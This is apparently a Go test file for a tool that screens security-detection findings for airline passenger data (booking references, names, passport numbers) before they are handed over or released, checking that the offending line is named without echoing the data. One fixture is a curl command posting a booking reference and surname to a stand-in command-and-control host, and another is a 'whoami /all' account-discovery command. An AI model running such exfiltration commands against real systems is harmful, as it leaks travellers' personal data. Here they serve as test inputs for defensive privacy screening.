package main

import (
	"strings"
	"testing"
)

// A hand-over and a release hold the same things for a passenger's.
func TestHandoverScreensLikeARelease(t *testing.T) {
	for text, passenger := range map[string]bool{
		`{"matched":{"Message":"call the help desk, phone +4930123456"}}`:                          false,
		`{"matched":{"mobile":"+49 170 1234567","mail":"duty@alpha.example"}}`:                     false,
		`{"matched":{"Message":"PNR: QWERT2, phone +4930123456"}}`:                                 true,
		`{"matched":{"surname":"LOVELACE","given_names":"AUGUSTA","passport_number":"123456789"}}`: true,
		`{"matched":{"CommandLine":"curl --data pnr=QWERT2&surname=LOVELACE http://c2.example/"}}`: true,
		`{"matched":{"CommandLine":"whoami /all"},"rule_title":"Discovery of accounts"}`:           false,
	} {
		if left := len(screenText([]byte(text))) == 0; left == passenger {
			t.Errorf("%s: a release of it is refused: %t", text, !left)
		}
		if err := screenPassengers("findings", strings.NewReader(text+"\n")); (err != nil) != passenger {
			t.Errorf("%s: a hand-over of it is refused: %v", text, err)
		}
	}
	// In whatever part of a long file it stands, its line is named.
	dull := strings.Repeat(`{"matched":{"CommandLine":"whoami /all"}}`+"\n", 99)
	for _, size := range []int64{1, 7, 100, 1 << 20} {
		err := screenParts(strings.NewReader(dull+`{"matched":{"Message":"PNR: QWERT2"}}`+"\n"+dull), size)
		if err == nil || !strings.Contains(err.Error(), "line 100 ") || strings.Contains(err.Error(), "QWERT2") {
			t.Errorf("in parts of %d bytes: %v", size, err)
		}
		if err := screenParts(strings.NewReader(strings.TrimSpace(dull)), size); err != nil {
			t.Errorf("in parts of %d bytes: %v", size, err)
		}
	}
}
